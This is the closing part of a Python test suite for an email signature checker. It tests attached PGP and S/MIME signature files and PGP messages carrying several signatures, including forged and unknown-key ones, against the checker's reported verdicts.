    cms = run(["openssl", "cms", "-sign", "-binary", "-outform", "DER", "-signer", work.cabinet(SOFIA, "cert.pem"),
               "-inkey", work.cabinet(SOFIA, "key.pem")], stdin=report).stdout

    def file(name, data, kind="application/octet-stream"):
        return winmail(data, f'{kind}; name="{name}"')

    with tap.case("a file's signature beside it is a document, good or not: nothing is said of the letter"):
        for content in (report, b"changed"):
            for signature in (file("report.pdf.asc", pgp), file("report.pdf.sig", pgp, "application/pgp-signature"),
                              file("report.pdf.p7s", cms), file("report.pdf.p7s", cms, "application/pkcs7-signature")):
                for first in ((ENTITY,), ()):
                    parts = (*first, file("report.pdf", content), signature)
                    answer, files = work.explain(mixed(*parts), ALICE, sender=PETER.address)
                    variant, = answer["variants"]
                    assert not variant["layers"] + variant["signatures"] + variant["warnings"], variant
                    assert b"X-Sealpost" not in files[0] and files[0].endswith(mixed(*parts))


def several_signers(work, tap):
    """Each signature of one part is verified by itself; a forged one spoils the others."""
    text = b"Geheim\nund wahr\n"
    work.gpg("--import", work.cabinet(BOSS, "secret.asc"))  # a key that the store does not know

    def packets(content, person, *options):
        return work.gpg("--no-armor", "-u", person.address, *options, "--detach-sign", stdin=content)

    def armour(*parts):
        whole = run(["gpg", "--homedir", work.home, "--batch", "--enarmor"], stdin=b"".join(parts)).stdout
        return re.sub(rb"Comment:.*\n", b"", whole.replace(b"ARMORED FILE", b"SIGNATURE"))

    def mime(*parts):
        return crlf(detached(ENTITY, armour(*parts), "pgp"))

    def clear(*parts):
        return b"Content-Type: text/plain\r\n\r\n" + crlf(
            b"-----BEGIN PGP SIGNED MESSAGE-----\nHash: SHA512\n\n" + text + armour(*parts))

    def judged(entity):
        answer, files = work.explain(entity, ALICE, sender=PETER.address)
        return sorted(s["result"] for s in answer["variants"][0]["signatures"]), files[0]

    unsigned = crlf(text[:-1])  # the last line end is not signed
    options = ("--digest-algo", "SHA512", "--textmode")
    for what, make, content, how in (("PGP/MIME", mime, ENTITY, ()), ("clear-signed", clear, unsigned, options)):
        good, other = packets(content, PETER, *how), packets(content, BOSS, *how)
        forged = packets(content.replace(b"Geheim", b"Gehe1m"), PETER, *how)
        with tap.case(f"{what}: a good signature beside a forged one is not good, beside an unknown one it is"):
            assert judged(make(good))[0] == ["good"], judged(make(good))
            # gpg stops at the first one that is forged
            for parts, found in (((good, forged), 2), ((forged, good), 1), ((good, good, forged), 3),
                                 ((good, forged, other), 2)):
                results, delivered = judged(make(*parts))
                assert results == ["bad"] * found and b"pgp=pass" not in delivered, (results, delivered)
            results, delivered = judged(make(other, good, forged))
            assert results == ["bad", "bad", "no-key"] and b"pgp=pass" not in delivered, (results, delivered)
            for parts in ((good, other), (other, good)):
                results, delivered = judged(make(*parts))
                assert results == ["good", "no-key"] and b"pgp=pass" in delivered, (results, delivered)


def main():
    tap, folder = Tap(), tempfile.mkdtemp(prefix="si-")
    try:
        work = Work(folder)
        for part in (forms, types, owners, verdicts, rich_text, smime_in_winmail, openpgp, signature_forms,
                     attached_signatures, several_signers):
            part(work, tap)
    finally:
        shutil.rmtree(folder, ignore_errors=True)
    sys.exit(tap.finish())


if __name__ == "__main__":
    main()
